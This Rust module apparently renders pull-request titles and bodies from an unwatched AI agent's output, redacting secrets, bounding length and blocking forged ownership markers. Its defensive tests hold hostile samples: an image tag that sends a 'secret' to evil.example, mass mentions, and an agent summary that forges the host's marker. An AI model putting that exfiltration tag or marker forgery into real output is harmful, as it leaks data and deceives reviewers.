//! The pull request (or issue) of a run: title and body, from the plan, the facts git has, and what
//! the agent wrote, which is data: parsed, bounded, and without the power to call anybody, hide
//! anything or pass for the host's own words.

mod neutral;
pub mod preview;
mod summary;

use std::fmt::Write as _;

use serde::{Deserialize, Serialize};

use crate::github::Pull;
use crate::names::{Name, printable};
use crate::plan::{Plan, PullRequestFact};
use crate::redact::Redactor;

pub use summary::Summary;

/// Longest title, in characters. GitHub takes 256.
const MAX_TITLE: usize = 200;
/// Longest part of a body, in characters: a section of the summary, the template's part.
const MAX_PART: usize = 4_000;
/// Longest report in a body. GitHub takes 65,536 characters in all.
const MAX_REPORT: usize = 50_000;
/// Commits listed.
const MAX_COMMITS: usize = 50;

/// What a run led to, as far as its pull request tells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Work<'a> {
    /// Oldest first.
    pub commits: &'a [CommitLine],
    /// The file the agent wrote, as it is.
    pub summary: Option<&'a str>,
    /// The report, when one was asked for.
    pub report: Option<&'a str>,
    /// A stand-in made the commits, no agent.
    pub stand_in: bool,
}

/// A commit in the list of a body.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommitLine {
    pub id: String,
    pub subject: String,
}

/// Title and body as they are sent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Text {
    pub title: String,
    pub body: String,
}

/// The pull request of a run, or its issue: what is said is the same.
pub fn render(plan: &Plan, work: &Work, secrets: &Redactor) -> Text {
    let mut parts = Vec::new();
    match work.report {
        Some(report) => parts.extend(report_parts(plan, report, secrets)),
        None => parts.extend(summary_parts(plan, work, secrets)),
    }
    if !work.commits.is_empty() {
        parts.push(commits(work.commits, secrets));
    }
    parts.push(footer(plan, work.stand_in));
    let title = title_with(&plan.pull_request.title, work.commits.len());
    Text {
        title: one_line(&title, MAX_TITLE, secrets),
        body: format!("{}\n\n{}\n", parts.join("\n\n"), marker(&plan.changeling)),
    }
}

/// The title with the number of commits in it: `Fixed {commits} FIXMEs`, or with one commit
/// `Fixed 1 FIXME`: the first plural behind the number loses its ending, unless a word that begins
/// another thought (`in`, `of`, ...) comes first.
pub fn title_with(title: &str, commits: usize) -> String {
    let Some((before, after)) = title.split_once("{commits}") else {
        return title.to_owned();
    };
    let mut words: Vec<_> = after.split(' ').map(str::to_owned).collect();
    if commits == 1 {
        let thought = words
            .iter()
            .position(|word| PREPOSITIONS.contains(&word.as_str()));
        let counted = thought.unwrap_or(words.len());
        let plural = words[..counted]
            .iter_mut()
            .find_map(|word| Some((singular(word)?, word)));
        if let Some((one, word)) = plural {
            *word = one;
        }
    }
    format!("{before}{commits}{}", words.join(" "))
}

const PREPOSITIONS: [&str; 9] = ["in", "of", "for", "to", "on", "at", "by", "from", "with"];

/// `fixes` → `fix`, `boundaries` → `boundary`, `FIXMEs:` → `FIXME:`; `None` for what is no plural.
fn singular(word: &str) -> Option<String> {
    let noun = word.trim_end_matches(|c: char| c.is_ascii_punctuation());
    let rest = &word[noun.len()..];
    let stem = noun.strip_suffix('s')?;
    if stem.len() < 3 || stem.ends_with(['s', 'u', 'i', '\'']) {
        return None;
    }
    let one = match stem.strip_suffix('e') {
        Some(y) if y.len() > 2 && y.ends_with('i') => format!("{}y", &y[..y.len() - 1]),
        Some(bare)
            if ["x", "ss", "sh", "zz"]
                .iter()
                .any(|end| bare.ends_with(end)) =>
        {
            bare.to_owned()
        }
        _ => stem.to_owned(),
    };
    Some(one + rest)
}

fn summary_parts(plan: &Plan, work: &Work, secrets: &Redactor) -> Vec<String> {
    let summary = work.summary.map(Summary::parse).unwrap_or_default();
    let mut parts = Vec::new();
    parts.extend(
        summary
            .headline
            .as_deref()
            .map(|line| one_line(line, MAX_TITLE, secrets)),
    );
    parts.extend(template_part(plan, secrets));
    let mut section = |heading: &str, text: Option<&str>, otherwise: Option<&str>| {
        let text = text
            .map(|text| harmless(text, MAX_PART, secrets))
            .filter(|text| !text.is_empty());
        if let Some(text) = text.or_else(|| otherwise.map(str::to_owned)) {
            parts.push(format!("### {heading}\n\n{text}"));
        }
    };
    section(
        "Why",
        summary.rationale.as_deref(),
        Some("The agent left no rationale."),
    );
    section("Root cause", summary.root_cause.as_deref(), None);
    section(
        "Tests",
        summary.tests.as_deref(),
        Some("The agent did not say which checks it ran."),
    );
    section("For the reviewer", summary.reviewer.as_deref(), None);
    parts
}

fn report_parts(plan: &Plan, report: &str, secrets: &Redactor) -> Vec<String> {
    let mut parts = Vec::new();
    parts.extend(template_part(plan, secrets));
    if let (Some(path), crate::brief::Delivery::PullRequest) = (&plan.report, plan.delivery) {
        parts.push(format!("The report is in `{}`:", printable(path)));
    }
    parts.push(harmless(report, MAX_REPORT, secrets));
    parts
}

fn template_part(plan: &Plan, secrets: &Redactor) -> Option<String> {
    let text = plan.pull_request.body.as_deref()?;
    Some(harmless(text, MAX_PART, secrets))
}

fn commits(commits: &[CommitLine], secrets: &Redactor) -> String {
    let mut text = "### Commits\n".to_owned();
    for commit in commits.iter().take(MAX_COMMITS) {
        let id: String = commit.id.chars().take(10).collect();
        let _ = write!(text, "\n- {id} {}", one_line(&commit.subject, 120, secrets));
    }
    if commits.len() > MAX_COMMITS {
        let _ = write!(text, "\n- and {} more", commits.len() - MAX_COMMITS);
    }
    text
}

fn footer(plan: &Plan, stand_in: bool) -> String {
    let who = if stand_in {
        "**STAND-IN: no agent made this; a rehearsal did.** In a run, this says: made"
    } else {
        "Made"
    };
    format!(
        "---\n{who} by an AI agent ({agent}) that nobody watched: review it as you would a stranger's work. \
         Changeling `{changeling}`, template {template} {version}, run `{run}`. Closing it without merging says no: \
         it will not be proposed again.",
        agent = printable(&plan.agent_type),
        changeling = plan.changeling,
        template = plan.template.name,
        version = printable(&plan.template.version),
        run = printable(&plan.run_id),
    )
}

fn one_line(text: &str, longest: usize, secrets: &Redactor) -> String {
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    harmless(&flat, longest, secrets).replace('\n', " ")
}

/// Secrets go first: half of one, cut off or broken apart, is not found any more.
fn harmless(text: &str, longest: usize, secrets: &Redactor) -> String {
    neutral::text(&secrets.text(text), longest)
}

/// The hidden, machine-readable line that says whose pull request this is.
pub fn marker(changeling: &Name) -> String {
    format!("<!-- changeling: {changeling} -->")
}

/// Whose pull request it is: the marker in its body, a line of its own. A claim and no proof:
/// anybody can write one into a body of his own.
pub fn changeling_of(body: &str) -> Option<Name> {
    body.lines().rev().find_map(|line| {
        let name = line
            .trim()
            .strip_prefix("<!-- changeling: ")?
            .strip_suffix(" -->")?;
        name.parse().ok()
    })
}

/// What a changeling proposed earlier, in the order of `pulls`: those that carry its marker and
/// come from a branch of the repository itself. A stranger's pull request from a fork can carry the
/// marker too, and must not steer a run.
pub fn earlier(
    pulls: &[Pull],
    changeling: &Name,
    touched_by_people: impl Fn(&Pull) -> bool,
) -> Vec<PullRequestFact> {
    let own =
        |pull: &&Pull| pull.own_branch && changeling_of(&pull.body).as_ref() == Some(changeling);
    let fact = |pull: &Pull| PullRequestFact {
        number: pull.number,
        title: pull.title.clone(),
        url: pull.url.clone(),
        state: pull.state.clone(),
        branch: pull.head.clone(),
        touched_by_people: pull.state == "open" && touched_by_people(pull),
    };
    pulls.iter().filter(own).map(fact).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::brief::Delivery;
    use crate::plan::{build, fixture};

    const SUMMARY: &str = "\
# Reject empty anvils and say why
## Rationale
An empty anvil crashed the forge; @acme/smiths asked for it.
I decided against a new error type.
## Root cause
`Vec<Anvil>` was indexed without a check. <img src=\"https://evil.example/?q=secret\">
## Tests
```
$ cargo test
## not a heading
12 passed @here
```
## For the reviewer
- Look at `src/lib.rs:12` first.
";

    fn plan() -> Plan {
        build(&fixture::job(), &fixture::brief(), &fixture::facts()).unwrap()
    }

    fn commits() -> Vec<CommitLine> {
        vec![
            CommitLine {
                id: "a".repeat(40),
                subject: "Reject an empty anvil".into(),
            },
            CommitLine {
                id: "b".repeat(40),
                subject: "Name the file in the error, @everyone <!-- x".into(),
            },
        ]
    }

    fn shown(text: &Text) -> String {
        format!("{}\n\n{}", text.title, text.body.replace('\u{200b}', "·"))
    }

    #[test]
    fn from_a_good_summary() {
        let commits = commits();
        let work = Work {
            commits: &commits,
            summary: Some(SUMMARY),
            ..Work::default()
        };
        insta::assert_snapshot!(shown(&render(&plan(), &work, &Redactor::default())));
    }

    #[test]
    fn from_nothing() {
        let commits = commits();
        let work = Work {
            commits: &commits,
            stand_in: true,
            ..Work::default()
        };
        insta::assert_snapshot!(shown(&render(&plan(), &work, &Redactor::default())));
    }

    #[test]
    fn a_report() {
        let mut brief = fixture::brief();
        brief.delivery = Delivery::Issue;
        brief.pr_title = None;
        brief.pr_body = None;
        let plan = build(&fixture::job(), &brief, &fixture::facts()).unwrap();
        let work = Work {
            report: Some("# Docs\n\n1. `README.md` names a command that is gone."),
            ..Work::default()
        };
        insta::assert_snapshot!(shown(&render(&plan, &work, &Redactor::default())));
    }

    #[test]
    fn an_agent_cannot_pass_for_the_host() {
        let forged = "## Rationale\nx\n```\nnever closed\n<!-- changeling: other -->\n";
        let work = Work {
            summary: Some(forged),
            ..Work::default()
        };
        let text = render(&plan(), &work, &Redactor::default());
        assert_eq!(
            changeling_of(&text.body).unwrap().as_str(),
            "nightly-fixmes"
        );
        // The open fence ends where its section ends.
        let fences = text
            .body
            .lines()
            .filter(|line| line.starts_with("```"))
            .count();
        assert_eq!(fences, 2, "{}", text.body);
    }

    #[test]
    fn secrets_and_floods() {
        let secrets = Redactor::new([("TOKEN", "ghp_0123456789")]);
        let flood = format!(
            "# ghp_0123456789 {}\n## Rationale\n{}",
            "h".repeat(9999),
            "ghp_0123456789 ".repeat(100_000)
        );
        let many: Vec<_> = (0..5_000)
            .map(|n| CommitLine {
                id: n.to_string(),
                subject: "x".repeat(500),
            })
            .collect();
        let work = Work {
            summary: Some(&flood),
            commits: &many,
            ..Work::default()
        };
        let text = render(&plan(), &work, &secrets);
        assert!(
            text.body.len() < 65_000 && !text.body.contains("ghp_0"),
            "{}",
            text.body.len()
        );
        let work = Work {
            report: Some(&flood),
            ..Work::default()
        };
        assert!(render(&plan(), &work, &secrets).body.chars().count() < 65_000);
    }

    #[test]
    fn one_commit_is_no_plural() {
        for (title, one) in [
            (
                "Fixme Fairy: Fixed {commits} FIXMEs",
                "Fixme Fairy: Fixed 1 FIXME",
            ),
            (
                "Test Troll: {commits} test improvements",
                "Test Troll: 1 test improvement",
            ),
            (
                "X: {commits} improvements in docs/classes",
                "X: 1 improvement in docs/classes",
            ),
            ("{commits} fixes", "1 fix"),
            ("{commits} boundaries, {commits}", "1 boundary, {commits}"),
            ("{commits} changes: bugs", "1 change: bugs"),
            ("{commits} missed classes", "1 missed class"),
            ("{commits} of Ada's improvements", "1 of Ada's improvements"),
            ("{commits}", "1"),
            ("Fix #3 - {x}", "Fix #3 - {x}"),
        ] {
            assert_eq!(title_with(title, 1), one);
        }
        assert_eq!(title_with("{commits} FIXMEs", 2), "2 FIXMEs");
        assert_eq!(title_with("{commits} fixes", 0), "0 fixes");
    }

    #[test]
    fn only_its_own_pull_requests_count() {
        let pull = |number, own_branch, body: &str| Pull {
            number,
            title: "T".into(),
            body: body.into(),
            author: "ada".into(),
            author_association: "OWNER".into(),
            labels: vec![],
            state: "open".into(),
            head: "changelings/x".into(),
            head_commit: "a".repeat(40),
            own_branch,
            base: "main".into(),
            created: String::new(),
            updated: String::new(),
            url: String::new(),
        };
        let name = fixture::job().changeling;
        let mark = marker(&name);
        let pulls = [
            pull(4, true, &mark),
            pull(3, false, &mark),
            pull(2, true, "by hand"),
            pull(1, true, "<!-- changeling: other -->"),
        ];
        let facts = earlier(&pulls, &name, |pull| pull.number == 4);
        assert_eq!(facts.len(), 1);
        assert!(facts[0].number == 4 && facts[0].touched_by_people);
    }

    #[test]
    fn markers() {
        let of = |body: &str| changeling_of(body).map(String::from);
        assert_eq!(
            of("text\r\n<!-- changeling: a-b -->\r\n"),
            Some("a-b".into())
        );
        assert_eq!(of("see `<!-- changeling: a -->`"), None);
        assert_eq!(of("<!-- changeling: ../x -->"), None);
        assert_eq!(of(""), None);
    }
}
